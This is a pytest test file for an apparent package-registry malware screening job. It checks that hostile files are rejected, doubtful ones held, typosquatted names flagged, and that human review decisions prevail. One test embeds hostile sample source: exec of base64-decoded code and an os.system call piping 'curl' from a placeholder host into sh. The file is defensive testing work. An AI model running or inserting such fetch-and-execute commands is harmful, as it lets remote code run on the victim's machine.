"""The screening job: facts, findings, evidence, verdict and the move, once, on both databases."""

from __future__ import annotations

import hashlib
import threading
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import func, insert, select

from bonded.catalog import change
from bonded.catalog.tables import case, evidence, finding, screening_run, suppression, verdict
from bonded.catalog.withdrawn import INSTEAD
from bonded.db.jobs import enqueue, job
from bonded.journal.tables import journal, to_publish
from bonded.review import decide
from bonded.review.evidence import ranked, text_of
from bonded.review.queue import case as case_of
from bonded.review.queue import cases
from bonded.screening import states
from bonded.screening.child import checks_call, screen_call
from bonded.screening.job import HELD_WORDS, REFUSED_WORDS, screen, wanted_move
from bonded.screening.policy import Policy
from bonded.screening.states import CheckState
from bonded.screening.tables import facts
from bonded.values.finding import When
from bonded.values.refusals import Refusal
from bonded.values.states import FileState, Mode, Verdict
from bonded.values.who import OPERATOR, POLICY
from tests.review.making import one_finding
from tests.screening.conftest import DOUBTFUL, HOSTILE
from tests.screening.index import Index
from tests.screening.test_run import Failing

S = FileState


def test_a_plain_file_becomes_public(index: Index) -> None:
    file = index.screened("plain-thing")
    assert (file.state, file.case_id, file.state_reason) == (S.PUBLIC, None, "")
    assert [(row.verdict, row.score, row.sandbox) for row in index.rows(verdict)] == [
        ("clear", 0.0, index.sandbox.level)
    ]
    assert {row.outcome for row in index.rows(screening_run)} == {"ok"}
    assert len(index.rows(facts)) == 1
    assert index.rows(finding) == index.rows(case) == []
    actions = [row.action for row in index.rows(journal)]
    assert actions[-1] == "file.publish"
    assert [row.actor_kind for row in index.rows(journal)][-1] == "policy"
    assert index.rows(to_publish)[-1].project_key == "plain-thing"


def test_a_hostile_file_is_rejected_with_its_evidence(index: Index) -> None:
    file = index.screened("bad-thing", HOSTILE)
    assert (file.state, file.state_reason) == (S.REJECTED, REFUSED_WORDS)
    row = index.rows(verdict)[-1]
    assert row.verdict == "reject"
    assert row.terms[0][0].startswith("decoded-or-downloaded-code-executed: decoded code is executed")
    kept = index.rows(finding)
    assert [(one.subject_kind, one.subject_id, one.file_id, one.line) for one in kept] == [
        ("file", file.id, file.id, 3)
    ]
    assert kept[0].trace[-1] == "line 3: builtins.exec"
    shown = index.ask(lambda conn: text_of(conn, kept[0].evidence))
    assert shown["text"].split("\n")[2].startswith("exec(")
    assert shown["decoded"] == [{"how": "decoded on line 3, layer 1", "text": "print(1)"}]
    opened = index.ask(lambda conn: case_of(conn, file.case_id))
    assert opened.line.headline == row.terms[0][0]
    assert opened.line.score == row.score
    assert [one.file.id for one in opened.files] == [file.id]
    assert "file.refuse" in [one.action for one in index.rows(journal)]


def test_a_doubtful_file_is_held(index: Index) -> None:
    file = index.screened("odd-thing", DOUBTFUL)
    assert (file.state, file.state_reason) == (S.HELD, HELD_WORDS)
    assert index.rows(case)[0].state == "open"


def test_files_of_a_project_share_a_case_which_shows_the_gravest(index: Index) -> None:
    first = index.screened("odd-thing", DOUBTFUL)
    second = index.screened("odd-thing", HOSTILE, "2.0")
    third = index.screened("odd-thing", DOUBTFUL, "3.0")
    assert first.case_id == index.file(second.id).case_id == index.file(third.id).case_id
    cases = index.rows(case)
    assert len(cases) == 1
    assert cases[0].score == max(row.score for row in index.rows(verdict))


def test_a_new_project_with_a_deceptive_name_is_held(index: Index) -> None:
    file = index.screened("reqeusts")
    assert file.state is S.HELD
    kept = index.rows(finding)
    assert [(one.check, one.subject_kind, one.subject_id) for one in kept] == [
        ("name-deception", "project", file.project_id)
    ]
    assert index.ask(lambda conn: ranked(conn, [file.id], file.project_id))[0].finding.check == "name-deception"


def test_a_second_file_of_a_held_project_is_held_too_and_found_once(index: Index) -> None:
    index.screened("reqeusts")
    assert index.screened("reqeusts", version="2.0").state is S.HELD
    assert len(index.rows(finding)) == 1


def test_running_again_adds_nothing_but_a_verdict(index: Index) -> None:
    file = index.screened("bad-thing", HOSTILE)
    before = [index.rows(table) for table in (finding, screening_run, evidence, facts, case, journal)]
    index.again(file.id)
    assert [index.rows(table) for table in (finding, screening_run, evidence, facts, case, journal)] == before
    assert [row.verdict for row in index.rows(verdict)] == ["reject", "reject"]
    assert index.rows(job) == [] or all(row.queue != "screen" for row in index.rows(job))


def test_a_worker_that_dies_before_the_end_leaves_nothing(index: Index) -> None:
    file_id = index.upload("bad-thing", HOSTILE)
    with index.db.read() as conn:
        from bonded.db.jobs import Job

        row = conn.execute(select(job).where(job.c.queue == "screen")).one()
    taken = Job(row.id, row.queue, row.key, row.payload, 1, row.created_at)
    effects = screen(index.context, taken, index.now)
    assert effects is not None  # the worker dies here: nothing was written
    assert index.file(file_id).state is S.RECEIVED
    assert index.rows(finding) == index.rows(verdict) == []
    index.work()
    assert index.file(file_id).state is S.REJECTED


def test_stored_facts_are_used_again(small: Index) -> None:
    file = small.screened("plain-thing")
    seen: list[Any] = []

    def note(call: Any, _: bytes) -> str:
        seen.append(call)
        return ""

    small.sandbox = Failing(small.sandbox, note)
    small.again(file.id)
    assert seen == [checks_call]


@pytest.mark.parametrize("how", ["crash", "timeout", "memory", "killed"])
def test_a_failure_holds_the_file_and_is_seen(small: Index, how: str) -> None:
    real = small.sandbox
    small.sandbox = Failing(real, lambda call, _: how if call is screen_call else "")
    file = small.screened("plain-thing")
    assert file.state is S.HELD
    assert [one.check for one in small.rows(finding)] == ["check-failed"]
    assert small.rows(verdict)[0].unread
    assert small.rows(case)[0].headline.startswith("check-failed: reading the archive")
    small.again(file.id)
    assert len(small.rows(finding)) == 1
    small.sandbox = real
    small.again(file.id)
    assert small.rows(verdict)[-1].verdict == "clear"
    assert small.file(file.id).state is S.HELD, "what a person must look at, no later run lets go"


def test_in_watch_mode_a_bad_file_is_withdrawn_and_a_doubtful_one_gets_a_case(index: Index) -> None:
    index.mode = Mode.WATCH
    assert index.screened("plain-thing").state is S.PUBLIC
    doubtful = index.screened("odd-thing", DOUBTFUL)
    assert doubtful.state is S.PUBLIC
    assert doubtful.case_id is not None
    bad = index.screened("bad-thing", HOSTILE)
    assert bad.state is S.QUARANTINED
    assert f"takedown:{bad.id}" in [row.key for row in index.rows(job)]


def test_a_second_look_that_says_worse_withdraws_what_nobody_decided_about(index: Index) -> None:
    """In watch mode a doubtful file is public and in a case; what is found when its sdist arrives may be worse."""
    index.mode = Mode.WATCH
    first, second = (index.screened(name, DOUBTFUL) for name in ("odd-thing", "other-thing"))
    with index.db.write() as tx:
        decide.release(tx, OPERATOR, [second.id], reason="looked at it", now=index.now)
    index.policy = Policy(reject=0.4)
    index.again(first.id)
    index.again(second.id)
    assert index.file(first.id).state is S.QUARANTINED
    assert f"takedown:{first.id}" in [row.key for row in index.rows(job)]
    assert index.file(second.id).state is S.PUBLIC, "people have the last word"


def test_the_case_of_a_held_file_shows_what_a_second_look_says(index: Index) -> None:
    file = index.screened("odd-thing", DOUBTFUL)
    (found,) = index.rows(finding)
    index.policy = Policy(weights={(found.check, found.severity): 1.0}, times=dict.fromkeys(When, 1.0))
    index.again(file.id)
    assert index.file(file.id).state is S.HELD
    assert index.rows(case)[0].score == index.rows(verdict)[-1].score > index.rows(verdict)[0].score


def test_people_have_the_last_word(small: Index) -> None:
    small.mode = Mode.WATCH
    file = small.screened("bad-thing", HOSTILE)
    with small.db.write() as tx:
        change.move_file(tx, "review.release", OPERATOR, file.id, S.PUBLIC, reason="looked at it", now=small.now)
    small.again(file.id)
    assert small.file(file.id).state is S.PUBLIC


def test_a_removed_or_unknown_file_is_left_alone(small: Index) -> None:
    file_id = small.upload("plain-thing")
    with small.db.write() as tx:
        change.move_file(tx, "file.hold", POLICY, file_id, S.HELD, reason="", now=small.now)
        change.move_file(tx, "review.remove", OPERATOR, file_id, S.REMOVED, reason="gone", now=small.now)
        enqueue(tx, "screen", "screen:nothing", {"file_id": "nothing"}, now=small.now)
    small.work()
    assert small.rows(verdict) == []


def test_a_missing_archive_fails_the_job_which_tries_again(small: Index) -> None:
    file_id = small.upload("plain-thing")
    small.vault.delete(small.file(file_id).vault_key)
    small.work()
    row = next(one for one in small.rows(job) if one.key == f"screen:{file_id}")
    assert (row.state, row.attempt) == ("pending", 1)
    assert small.file(file_id).state is S.RECEIVED


def set_state(index: Index, name: str, state: CheckState) -> None:
    with index.db.write() as tx:
        states.set_state(tx, OPERATOR, name, state, reason="a test", now=index.now)


def test_a_check_in_evaluation_runs_and_decides_nothing(small: Index) -> None:
    set_state(small, "decoded-or-downloaded-code-executed", CheckState.EVALUATION)
    assert small.screened("bad-thing", HOSTILE).state is S.PUBLIC
    assert [one.check for one in small.rows(finding)] == ["decoded-or-downloaded-code-executed"]


@pytest.mark.parametrize("state", [CheckState.DISABLED, CheckState.WIPED_OUT])
def test_a_disabled_check_does_not_run(small: Index, state: CheckState) -> None:
    set_state(small, "decoded-or-downloaded-code-executed", state)
    assert small.screened("bad-thing", HOSTILE).state is S.PUBLIC
    assert small.rows(finding) == []
    set_state(small, "decoded-or-downloaded-code-executed", CheckState.ENABLED)
    assert small.screened("bad-thing", HOSTILE, "2.0").state is S.REJECTED


def test_what_a_wiped_out_check_found_is_hidden_everywhere_and_kept(small: Index) -> None:
    check = "decoded-or-downloaded-code-executed"
    file = small.screened("bad-thing", HOSTILE)
    before = [small.rows(table) for table in (finding, verdict, case)]
    set_state(small, check, CheckState.WIPED_OUT)
    shown = small.ask(lambda conn: case_of(conn, file.case_id))
    assert (shown.findings, shown.files[0].judged.terms) == ((), ())
    assert shown.line.headline == INSTEAD
    assert small.ask(lambda conn: cases(conn))[0][0].headline == INSTEAD
    assert shown.files[0].judged.verdict is Verdict.REJECT, "nothing is judged anew in silence"
    assert small.file(file.id).state is S.REJECTED
    assert [small.rows(table) for table in (finding, verdict, case)] == before, "nothing is destroyed"
    set_state(small, check, CheckState.EVALUATION)
    again = small.ask(lambda conn: case_of(conn, file.case_id))
    assert again.findings[0].finding.check == check
    assert again.line.headline.startswith(check)


def test_findings_outlive_the_file_the_release_and_the_project(small: Index) -> None:
    small.mode = Mode.WATCH
    file = small.screened("bad-thing", HOSTILE)
    before = [small.rows(table) for table in (finding, screening_run, verdict, evidence)]
    with small.db.write() as tx:
        change.move_file(tx, "review.remove", OPERATOR, file.id, S.REMOVED, reason="malware", now=small.now)
    small.vault.delete(file.vault_key)
    assert [small.rows(table) for table in (finding, screening_run, verdict, evidence)] == before
    for table in (finding, screening_run, verdict, evidence):
        assert not table.foreign_keys, f"{table} must not hang on what may go"
    from sqlalchemy.exc import DatabaseError

    for table in (finding, screening_run, verdict):
        with pytest.raises(DatabaseError), small.db.write() as tx:
            tx.execute(table.delete())


def test_states_are_recorded_with_a_reason(small: Index) -> None:
    set_state(small, "startup-hook", CheckState.DISABLED)
    row = small.rows(journal)[-1]
    assert (row.action, row.subject_id, row.facts) == (
        "check.set-state",
        "startup-hook",
        {"state": "disabled", "reason": "a test"},
    )
    for name, reason in (("nothing", "x"), ("startup-hook", " ")):
        with pytest.raises(Refusal), small.db.write() as tx:
            states.set_state(tx, OPERATOR, name, CheckState.ENABLED, reason=reason, now=small.now)


def suppress(index: Index, sha256: str, expires: datetime) -> None:
    values = {"check": "decoded-or-downloaded-code-executed", "path": "bad_thing/__init__.py", "content_sha256": sha256}
    with index.db.write() as tx:
        tx.execute(
            insert(suppression).values(values | {"reason": "known", "created_at": index.now, "expires_at": expires})
        )


def test_what_a_check_found_that_is_gone_can_be_withdrawn(small: Index) -> None:
    """A check of ours that nobody ever touched has no state; a version of Bonded may come without it."""
    file = small.screened("plain-thing")
    with small.db.write() as tx:
        one_finding(tx, file.id, small.now, check="check-of-before")
        assert len(ranked(tx, [file.id], file.project_id)) == 1
        states.set_state(tx, OPERATOR, "check-of-before", CheckState.WIPED_OUT, reason="noise", now=small.now)
        assert ranked(tx, [file.id], file.project_id) == []
        with pytest.raises(Refusal):
            states.set_state(tx, OPERATOR, "never-there", CheckState.WIPED_OUT, reason="noise", now=small.now)


def test_two_who_set_the_state_of_a_check_at_once_are_both_heard(index: Index) -> None:
    failed: list[Exception] = []

    def turn(state: CheckState) -> None:
        for _ in range(20):
            try:
                with index.db.write() as tx:
                    states.set_state(tx, OPERATOR, "startup-hook", state, reason="because", now=index.now)
            except Exception as error:  # whatever it is, the page would be a 500
                failed.append(error)

    wanted = (CheckState.ENABLED, CheckState.EVALUATION, CheckState.DISABLED)
    threads = [threading.Thread(target=turn, args=(state,)) for state in wanted]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failed == []
    rows = [row for row in index.rows(journal) if row.action == "check.set-state"]
    assert len(rows) == 60
    assert index.ask(states.states)["startup-hook"] in wanted


def test_a_suppressed_finding_decides_nothing_until_it_expires(small: Index) -> None:
    member = hashlib.sha256(HOSTILE.encode()).hexdigest()
    suppress(small, member, small.now + timedelta(days=1))
    assert small.screened("bad-thing", HOSTILE).state is S.PUBLIC
    assert len(small.rows(finding)) == 1
    small.shelf.now = small.now + timedelta(days=2)
    assert small.screened("bad-thing", HOSTILE, "2.0").state is S.REJECTED


def test_text_that_no_database_takes_is_cleaned(index: Index) -> None:
    source = "import base64\nexec(base64.b64decode('AGEA\\ud800'.encode('utf-8', 'surrogatepass')), '\\0')  # \x01\n"
    source += "import os\nos.system('curl https://example.invalid/\\0\\ud800 | sh')\n"
    file = index.screened("bad-thing", source)
    assert file.state is not S.RECEIVED
    assert index.ask(lambda conn: conn.execute(select(func.count()).select_from(finding)).scalar_one()) >= 1


MOVES = [
    (S.RECEIVED, Verdict.CLEAR, Mode.HOLD, S.PUBLIC),
    (S.RECEIVED, Verdict.REVIEW, Mode.HOLD, S.HELD),
    (S.RECEIVED, Verdict.REJECT, Mode.HOLD, S.REJECTED),
    (S.RECEIVED, Verdict.REVIEW, Mode.WATCH, S.PUBLIC),
    (S.RECEIVED, Verdict.REJECT, Mode.WATCH, S.REJECTED),
    (S.PUBLIC, Verdict.CLEAR, Mode.WATCH, None),
    (S.PUBLIC, Verdict.REVIEW, Mode.WATCH, None),
    (S.PUBLIC, Verdict.REJECT, Mode.WATCH, S.QUARANTINED),
    (S.HELD, Verdict.CLEAR, Mode.HOLD, None),
    (S.REJECTED, Verdict.CLEAR, Mode.HOLD, None),
    (S.QUARANTINED, Verdict.REJECT, Mode.WATCH, None),
]


@pytest.mark.parametrize(("state", "verdict_", "mode", "wanted"), MOVES)
def test_the_move_that_a_verdict_asks_for(
    state: FileState, verdict_: Verdict, mode: Mode, wanted: FileState | None
) -> None:
    move = wanted_move(state, verdict_, mode)
    assert (move[1] if move else None) is wanted


def test_many_files_in_parallel_on_one_project(index: Index) -> None:
    import threading

    ids = [index.upload("odd-thing", DOUBTFUL if n % 2 else HOSTILE, f"{n}.0") for n in range(6)]
    threads = [threading.Thread(target=index.work) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert {index.file(one).state for one in ids} == {S.HELD, S.REJECTED}
    assert len(index.rows(case)) == 1
    assert len(index.rows(verdict)) == 6
    assert replace(index).now == index.now
